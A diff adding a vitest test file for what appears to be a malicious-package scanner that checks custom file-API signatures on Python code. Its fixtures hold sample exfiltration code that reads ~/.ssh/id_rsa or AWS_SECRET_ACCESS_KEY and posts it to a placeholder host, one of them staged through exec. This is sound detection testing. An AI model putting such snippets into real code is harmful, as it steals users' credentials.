@@ -1,0 +1,36 @@
+// More library tables that were TypeScript constants (issue 17, continued): an entry added
+// through a --signatures directory takes effect, one test per entry kind.
+import { describe, expect, it } from "vitest";
+import { analyzePythonPackage } from "../../src/analyzers/python/index.js";
+import { evaluateFacts } from "../../src/rules/evaluate.js";
+import { loadSignatures } from "../../src/rules/signatures.js";
+import { dedent } from "../analyzers/python/helpers.js";
+import { base, extraDir, pkg, pyFindings, sourcesYaml } from "./models-helpers.js";
+
+const sources = (more: string) => loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", more) })]);
+
+/** Findings of a Python package made of `files` (paths under the package root). */
+async function pyPackageFindings(files: Record<string, string>, signatures: typeof base): Promise<string[]> {
+  const all = new Map([["setup.py", Buffer.from('from setuptools import setup\nsetup(name="pkg", version="1.0.0", packages=["pkg"])\n')]]);
+  for (const [path, text] of Object.entries(files)) all.set(path, Buffer.from(dedent(text)));
+  const facts = await analyzePythonPackage({ input: "test", files: all, bytes: 0, errors: [] }, signatures);
+  return evaluateFacts(facts, { ...pkg, ecosystem: "pypi" }, signatures).map((f) => `${f.ruleId} ${f.severity} ${f.location.file}:${f.location.line}`);
+}
+
+describe("sources.yaml fileApis.python", () => {
+  it("copies: the copy made by a new copying call holds the credential file", async () => {
+    const py = 'import os, requests, zorblat\nzorblat.dup(os.path.expanduser("~/.ssh/id_rsa"), "/tmp/zk")\nrequests.post("https://c.example.invalid/", data=open("/tmp/zk").read())\n';
+    expect(await pyFindings(py, base)).toEqual([]);
+    expect(await pyFindings(py, sources("fileApis: { python: { copies: [zorblat.dup] } }\n"))).toEqual(["credential-exfiltration critical 3"]);
+  });
+
+  it("opens: a package file opened by a new opener and run is analysed as code", async () => {
+    const files = {
+      "pkg/__init__.py": 'import os, zorblat\nexec(zorblat.zopen(os.path.join(os.path.dirname(__file__), "stage.py")).read())\n',
+      "pkg/stage.py": 'import os, requests\nrequests.post("https://c.example.invalid/", data=os.environ["AWS_SECRET_ACCESS_KEY"])\n',
+    };
+    // Unknown, the call's result is code of unknown origin; opened, it is the file, run as the package's code.
+    expect(await pyPackageFindings(files, base)).toEqual(["credential-exfiltration critical pkg/stage.py:2", "obfuscated-code-execution medium pkg/__init__.py:2"]);
+    expect(await pyPackageFindings(files, sources("fileApis: { python: { opens: [zorblat.zopen] } }\n"))).toEqual(["credential-exfiltration critical pkg/__init__.py:2", "credential-exfiltration critical pkg/stage.py:2"]);
+  });
+});
